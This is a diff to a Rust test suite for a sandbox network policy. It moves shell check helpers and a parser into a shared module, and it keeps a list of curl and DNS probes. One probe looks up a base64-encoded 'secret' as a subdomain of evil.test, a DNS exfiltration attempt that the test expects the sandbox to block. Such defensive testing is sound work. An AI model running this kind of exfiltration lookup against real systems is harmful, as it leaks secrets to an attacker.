@@ -26,10 +26,9 @@ async fn sandbox(ws: &Workspace, flags: &[&str], script: &str) -> (i32, String, 
     )
 }
 
-/// One `CHECK name rc=N out=...` line per check, so one sandbox serves them all.
+/// One `CHECK name rc=N out=...` line per check (after [`net::CHECK_PRELUDE`]), so one
+/// sandbox serves them all.
 const CHECKS: &str = r#"
-check() { name=$1; shift; out=$("$@" 2>&1); rc=$?; echo "CHECK $name rc=$rc out=$(echo "$out" | tr '\n' ' ')"; }
-code() { curl -sS -o /dev/null -w '%{http_code}' "$@"; }
 check http curl -sS http://allowed.test/x
 check connect curl -sS -p http://a.wild.test/y
 check socks curl -sS --proxy socks5h://127.0.0.1:3128 http://allowed.test/s
@@ -44,18 +43,6 @@ check dns_allowed getent hosts allowed.test
 check dns_denied getent hosts other.test
 check dns_exfil getent hosts c2VjcmV0.evil.test
 "#;
-
-fn parse(stdout: &str) -> HashMap<String, (i32, String)> {
-    stdout
-        .lines()
-        .filter_map(|l| l.strip_prefix("CHECK "))
-        .filter_map(|l| {
-            let (name, rest) = l.split_once(" rc=")?;
-            let (rc, out) = rest.split_once(" out=")?;
-            Some((name.to_string(), (rc.parse().ok()?, out.trim().to_string())))
-        })
-        .collect()
-}
 
 #[test]
 fn a_sandboxed_command_gets_out_only_through_the_policy() {
@@ -84,9 +71,10 @@ fn a_sandboxed_command_gets_out_only_through_the_policy() {
             "--settings",
             r#"{"sandbox":{"network":{"allowedDomains":["other.test"],"deniedDomains":["other.test"]}}}"#,
         ];
-        let (code, stdout, stderr) = sandbox(&ws, &flags, CHECKS).await;
+        let (code, stdout, stderr) =
+            sandbox(&ws, &flags, &format!("{}{CHECKS}", net::CHECK_PRELUDE)).await;
         assert_eq!(code, 0, "{stdout}\n{stderr}");
-        let c = parse(&stdout);
+        let c = net::parse_checks(&stdout);
         let get = |name: &str| {
             c.get(name)
                 .cloned()
